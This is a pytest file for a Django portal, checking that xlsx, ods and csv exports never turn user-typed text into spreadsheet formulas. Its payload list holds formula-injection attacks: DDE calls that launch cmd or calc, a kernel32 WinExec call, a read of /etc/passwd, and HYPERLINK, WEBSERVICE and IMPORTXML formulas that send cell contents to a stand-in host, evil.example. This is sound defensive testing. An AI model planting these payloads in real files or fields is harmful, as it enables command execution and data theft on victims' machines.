"""Nothing that a person typed becomes a formula in a file of the portal."""

import csv
import re
from io import BytesIO, StringIO
from itertools import product
from zipfile import ZipFile

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from actions.models import ActionNote
from csp_portal.common.sheets import read_file
from priorities.models import PlanPoint, PriorityLead, SuccessMeasure
from tests.factories import (
    make_action,
    make_member,
    make_organisation,
    make_owner,
    make_partnership,
    make_plan,
    make_priority,
    make_update,
    saved,
)

pytestmark = pytest.mark.django_db
BEGINNINGS = [
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "  +", "\t", "\r", "\n@"),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "''@", '"=', ";=", ",=", "=-+@", "%3D", "=\t"),
]
BODIES = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"Click")',
    'WEBSERVICE("http://evil.example/"&A2)',
    'IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
    'EXEC("calc.exe")',
    "A1:A9",
    "2+5+cmd|'/C calc'!A0",
    'FILTERXML("<a/>","//a")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'CALL("kernel32","WinExec","JJ","calc",0)',
    "10-3",
    "{1;2}",
    "$A$1",
    'IF(1,"a","b")',
    'REGISTER.ID("x","y")',
]
PAYLOADS = [beginning + body for beginning, body in product(BEGINNINGS, BODIES)]
FIELDS = ["item", "objective", "text", "post", "start", "deadline", "happened", "next", "place", "also_in"]
DANGEROUS = re.compile(r"[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
FILES = {
    "actions.xlsx": "one for each priority",
    "actions.xlsx?sheets=one": "one for all",
    "actions.ods": "one for all",
    "actions.csv": "one for all",
    "dashboard.csv": "the numbers",
    "history.csv": "what was saved",
}


@pytest.fixture(scope="module")
def download(made_once):
    """The files of a partnership in which every text that a person types begins like a formula: 500 of them."""
    with made_once(), time_machine.travel("2026-10-20 10:00", tick=False):
        partnership = make_partnership("ambridge", name=PAYLOADS[0])
        priority = make_priority(partnership, plan=make_plan(partnership, PAYLOADS[1]), name=PAYLOADS[2], number="=1")
        saved(PriorityLead(partnership=partnership, priority=priority, post=PAYLOADS[3]))
        point = {"plan": priority.plan, "kind": PlanPoint.Kind.EVIDENCE, "heading": PAYLOADS[4], "text": PAYLOADS[5]}
        saved(PlanPoint(partnership=partnership, priority=priority, **point))
        measure = saved(SuccessMeasure(partnership=partnership, priority=priority, text=PAYLOADS[6]))
        organisation = make_organisation(partnership, PAYLOADS[7])
        for first in range(0, len(PAYLOADS), len(FIELDS)):
            typed = dict(zip(FIELDS, PAYLOADS[first : first + len(FIELDS)], strict=True))
            fill(make_typed(priority, typed, measure=measure), typed, organisation)
        client = Client()
        client.force_login(make_member(partnership, name=PAYLOADS[8], post=PAYLOADS[9]))
        yield lambda address: client.get(f"/ambridge/{address}").getvalue()


def make_typed(priority, typed, **values):
    values |= {name: typed[name] for name in ("item", "objective", "start", "deadline", "place", "also_in")}
    return make_action(priority, actions_to_deliver=typed["text"], **values)


def fill(action, typed, organisation):
    make_owner(action, post=typed["post"], organisation=organisation)
    make_update(action, "at_risk", what_happened=typed["happened"], what_next=typed["next"])
    saved(ActionNote(partnership=action.partnership, action=action, heading=typed["text"], text=typed["post"]))


def test_there_are_500_payloads_and_most_begin_as_a_formula_does():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 500
    assert sum(bool(DANGEROUS.match(payload)) for payload in PAYLOADS) == 380


@pytest.mark.parametrize("address", [address for address in FILES if ".xlsx" in address])
def test_no_cell_of_an_xlsx_file_is_a_formula(download, address):
    content = download(address)
    package = ZipFile(BytesIO(content))
    sheets = [package.read(name).decode() for name in package.namelist() if name.startswith("xl/worksheets/")]
    assert [re.search(r"<f[\s>/]", sheet) for sheet in sheets] == [None, None]
    assert {kind for sheet in sheets for kind in re.findall(r'<c [^>]*\bt="(\w+)"', sheet)} <= {"inlineStr", "n", "s"}
    assert not [name for name in package.namelist() if "external" in name.lower() or "connection" in name.lower()]
    rows = [row for sheet in load_workbook(BytesIO(content)) for row in sheet]
    cells = [cell for row in rows for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.quotePrefix for cell in cells} == {True}
    typed = {name for name in FIELDS if name not in ("place", "also_in", "next")}
    assert typed_missing(read_file("file.xlsx", content), typed) == []


def test_no_cell_of_an_ods_file_is_a_formula(download):
    content = download("actions.ods")
    xml = ZipFile(BytesIO(content)).read("content.xml").decode()
    assert "table:formula" not in xml
    assert set(re.findall(r'office:value-type="(\w+)"', xml)) == {"string", "date"}
    assert typed_missing(read_file("file.ods", content), set(FIELDS)) == []


@pytest.mark.parametrize("address", [address for address in FILES if ".csv" in address])
def test_no_cell_of_a_csv_file_begins_a_formula(download, address):
    rows = list(csv.reader(StringIO(download(address).decode("utf-8-sig"), newline="")))
    assert [cell for row in rows for cell in row if DANGEROUS.match(cell)] == []
    assert len(rows) > 2


def test_every_word_comes_back_from_a_csv_file(download):
    assert typed_missing(read_file("file.csv", download("actions.csv")), set(FIELDS)) == []


def typed_missing(sheets, fields):
    """The payloads of these fields that stand in no cell as they were typed."""
    cells = {folded(cell.text) for sheet in sheets for row in sheet.rows.values() for cell in row.values()}
    owners = {words.split(", ")[0] for words in cells}
    wanted = [payload for number, payload in enumerate(PAYLOADS) if FIELDS[number % len(FIELDS)] in fields]
    return [words for words in wanted if not any(folded(words) in cell for cell in cells | owners)]


def folded(words):
    """Line ends and spaces apart: a list of other plans is shown on one line."""
    return " ".join(words.split())
